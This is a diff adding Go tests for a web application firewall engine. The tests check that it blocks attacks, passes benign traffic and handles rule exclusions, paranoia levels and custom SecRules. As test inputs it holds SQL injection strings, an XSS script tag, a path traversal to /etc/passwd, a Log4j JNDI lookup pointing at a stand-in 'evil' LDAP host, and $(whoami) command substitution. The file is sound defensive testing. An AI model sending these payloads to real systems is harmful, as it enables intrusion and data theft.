@@ -0,0 +1,274 @@
+package waf
+
+import (
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func newTestEngine(t *testing.T) *Engine {
+	tmpDir := t.TempDir()
+	engine, err := NewEngine(&Options{
+		RulesFolder:    filepath.Join(tmpDir, "rules"),
+		AuditLogFolder: filepath.Join(tmpDir, "log"),
+	})
+	if err != nil {
+		t.Fatalf("unable to create WAF engine: %v", err)
+	}
+	t.Cleanup(engine.Close)
+	return engine
+}
+
+func newTestRequest(method string, target string, body string) *http.Request {
+	var bodyReader io.Reader
+	if body != "" {
+		bodyReader = strings.NewReader(body)
+	}
+	r := httptest.NewRequest(method, target, bodyReader)
+	r.Header.Set("User-Agent", "Mozilla/5.0")
+	if body != "" {
+		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	}
+	return r
+}
+
+func enabledConfig() *Config {
+	config := DefaultConfig()
+	config.Enabled = true
+	return config
+}
+
+func TestBaseRulesLoadWithoutWarnings(t *testing.T) {
+	engine := newTestEngine(t)
+	if len(engine.GetRules()) == 0 {
+		t.Fatal("expected base rules to be loaded")
+	}
+	for _, warning := range engine.GetWarnings() {
+		t.Errorf("unexpected warning: %s", warning)
+	}
+}
+
+func TestInspectDetectAttacks(t *testing.T) {
+	engine := newTestEngine(t)
+	testcases := []struct {
+		name    string
+		request *http.Request
+		ruleID  int
+	}{
+		{"sqli union", newTestRequest("GET", "/?id="+url.QueryEscape("1 UNION ALL SELECT password FROM users"), ""), 942100},
+		{"sqli tautology", newTestRequest("GET", "/?user="+url.QueryEscape("admin' OR 1=1"), ""), 942130},
+		{"xss script tag", newTestRequest("GET", "/?q="+url.QueryEscape("<script>alert(1)</script>"), ""), 941110},
+		{"path traversal", newTestRequest("GET", "/?file="+url.QueryEscape("../../etc/passwd"), ""), 930110},
+		{"log4j", newTestRequest("GET", "/?x="+url.QueryEscape("${jndi:ldap://evil/a}"), ""), 932180},
+		{"post body sqli", newTestRequest("POST", "/login", "user="+url.QueryEscape("x' or 'a'='a")), 942130},
+	}
+
+	for _, tc := range testcases {
+		result := engine.Inspect(tc.request, enabledConfig(), "example.com")
+		if result == nil || !result.Blocked {
+			t.Errorf("%s: expected request to be blocked", tc.name)
+			continue
+		}
+		found := false
+		for _, match := range result.Matches {
+			if match.ID == tc.ruleID {
+				found = true
+			}
+		}
+		if !found {
+			t.Errorf("%s: expected rule %d to match", tc.name, tc.ruleID)
+		}
+	}
+}
+
+func TestInspectAllowBenignRequests(t *testing.T) {
+	engine := newTestEngine(t)
+	requests := []*http.Request{
+		newTestRequest("GET", "/", ""),
+		newTestRequest("GET", "/search?q="+url.QueryEscape("how to select a union representative"), ""),
+		newTestRequest("GET", "/blog/2024/01/hello-world?utm_source=news&page=2", ""),
+		newTestRequest("POST", "/comment", "name=Alice&text="+url.QueryEscape("I can't wait; see you at 5pm!")),
+	}
+
+	for _, r := range requests {
+		result := engine.Inspect(r, enabledConfig(), "example.com")
+		if result.Blocked {
+			t.Errorf("expected %s %s to pass, matched %d rules", r.Method, r.RequestURI, len(result.Matches))
+			for _, match := range result.Matches {
+				t.Logf("  rule %d: %s (%s)", match.ID, match.Msg, match.MatchedData)
+			}
+		}
+	}
+}
+
+func TestInspectDisabled(t *testing.T) {
+	engine := newTestEngine(t)
+	r := newTestRequest("GET", "/?q="+url.QueryEscape("<script>alert(1)</script>"), "")
+	if result := engine.Inspect(r, DefaultConfig(), "example.com"); result != nil {
+		t.Error("expected nil result when WAF is disabled")
+	}
+	if result := engine.Inspect(r, nil, "example.com"); result != nil {
+		t.Error("expected nil result when config is nil")
+	}
+}
+
+func TestInspectDetectionOnly(t *testing.T) {
+	engine := newTestEngine(t)
+	config := enabledConfig()
+	config.DetectionOnly = true
+
+	r := newTestRequest("GET", "/?q="+url.QueryEscape("<script>alert(1)</script>"), "")
+	result := engine.Inspect(r, config, "example.com")
+	if result.Blocked {
+		t.Error("expected request not to be blocked in detection only mode")
+	}
+	if result.Score < result.Threshold || len(result.Matches) == 0 {
+		t.Error("expected matches to be recorded in detection only mode")
+	}
+
+	entries, err := engine.GetAuditLogger().ReadRecent(10)
+	if err != nil {
+		t.Fatalf("unable to read audit log: %v", err)
+	}
+	if len(entries) != 1 || entries[0].Action != "detected" || entries[0].Endpoint != "example.com" {
+		t.Errorf("unexpected audit log entries: %+v", entries)
+	}
+}
+
+func TestInspectRuleExclusions(t *testing.T) {
+	engine := newTestEngine(t)
+	config := enabledConfig()
+	config.RuleExclusions = []*RuleExclusion{
+		{RuleIDs: "941000-941999", PathPrefix: "/editor/"},
+	}
+
+	payload := "/?q=" + url.QueryEscape("<script>alert(1)</script>")
+	result := engine.Inspect(newTestRequest("GET", "/editor"+payload, ""), config, "example.com")
+	if result.Blocked {
+		t.Error("expected XSS rules to be excluded under /editor/")
+	}
+
+	result = engine.Inspect(newTestRequest("GET", payload, ""), config, "example.com")
+	if !result.Blocked {
+		t.Error("expected XSS rules to apply outside of /editor/")
+	}
+}
+
+func TestInspectParanoiaLevel(t *testing.T) {
+	engine := newTestEngine(t)
+	r := newTestRequest("GET", "/?cb="+url.QueryEscape("$(whoami)"), "")
+
+	//Command substitution rule 932200 is paranoia level 2
+	result := engine.Inspect(r, enabledConfig(), "example.com")
+	for _, match := range result.Matches {
+		if match.ID == 932200 {
+			t.Error("expected PL2 rule not to run at PL1")
+		}
+	}
+
+	config := enabledConfig()
+	config.ParanoiaLevel = 2
+	result = engine.Inspect(newTestRequest("GET", "/?cb="+url.QueryEscape("$(whoami)"), ""), config, "example.com")
+	found := false
+	for _, match := range result.Matches {
+		if match.ID == 932200 {
+			found = true
+		}
+	}
+	if !found {
+		t.Error("expected PL2 rule to run at PL2")
+	}
+}
+
+func TestInspectRestoreBody(t *testing.T) {
+	engine := newTestEngine(t)
+	config := enabledConfig()
+	config.MaxBodyInspectSize = 8
+
+	body := "name=Alice&comment=hello"
+	r := newTestRequest("POST", "/comment", body)
+	engine.Inspect(r, config, "example.com")
+
+	forwarded, err := io.ReadAll(r.Body)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if string(forwarded) != body {
+		t.Errorf("expected body %q to be restored, got %q", body, string(forwarded))
+	}
+}
+
+func TestCustomRulesAndRemoveById(t *testing.T) {
+	tmpDir := t.TempDir()
+	rulesFolder := filepath.Join(tmpDir, "rules")
+	os.MkdirAll(rulesFolder, 0775)
+	customRules := `
+SecRule REQUEST_HEADERS:X-Debug "@streq on" \
+    "id:1000,phase:1,deny,msg:'Debug header not allowed',severity:'CRITICAL'"
+
+SecRule REQUEST_METHOD "@streq POST" "id:1001,phase:1,pass,chain,msg:'Chained rule',severity:'NOTICE'"
+    SecRule ARGS_GET:token "@rx ^$" "setvar:tx.empty_token=1"
+
+SecRuleRemoveById 941000-941999
+SecRule ARGS "@detectSQLi" "id:1002,phase:2,block"
+`
+	os.WriteFile(filepath.Join(rulesFolder, "custom.conf"), []byte(customRules), 0644)
+
+	engine, err := NewEngine(&Options{RulesFolder: rulesFolder})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer engine.Close()
+
+	//Unsupported operator is skipped with a warning
+	if len(engine.GetWarnings()) != 1 {
+		t.Errorf("expected 1 warning, got %v", engine.GetWarnings())
+	}
+
+	r := newTestRequest("GET", "/", "")
+	r.Header.Set("X-Debug", "on")
+	result := engine.Inspect(r, enabledConfig(), "example.com")
+	if !result.Interrupted || !result.Blocked {
+		t.Error("expected deny rule to interrupt the request")
+	}
+
+	//Removed XSS rules should not match
+	result = engine.Inspect(newTestRequest("GET", "/?q="+url.QueryEscape("<script>x</script>"), ""), enabledConfig(), "example.com")
+	for _, match := range result.Matches {
+		if match.ID >= 941000 && match.ID <= 941999 {
+			t.Errorf("expected rule %d to be removed", match.ID)
+		}
+	}
+
+	//Chained rule only match when both links match
+	result = engine.Inspect(newTestRequest("POST", "/?token=", "a=b"), enabledConfig(), "example.com")
+	if len(result.Matches) != 1 || result.Matches[0].ID != 1001 {
+		t.Errorf("expected chained rule 1001 to match, got %+v", result.Matches)
+	}
+	result = engine.Inspect(newTestRequest("POST", "/?token=abc", "a=b"), enabledConfig(), "example.com")
+	if len(result.Matches) != 0 {
+		t.Errorf("expected chained rule not to match, got %+v", result.Matches)
+	}
+}
+
+func TestValidateConfig(t *testing.T) {
+	config := &Config{Enabled: true}
+	if err := ValidateConfig(config); err != nil {
+		t.Fatal(err)
+	}
+	if config.ParanoiaLevel != DefaultParanoiaLevel || config.AnomalyThreshold != DefaultAnomalyThreshold {
+		t.Error("expected default values to be filled in")
+	}
+
+	if err := ValidateConfig(&Config{ParanoiaLevel: 5}); err == nil {
+		t.Error("expected error for invalid paranoia level")
+	}
+	if err := ValidateConfig(&Config{RuleExclusions: []*RuleExclusion{{RuleIDs: "942100-abc"}}}); err == nil {
+		t.Error("expected error for invalid rule ID range")
+	}
+}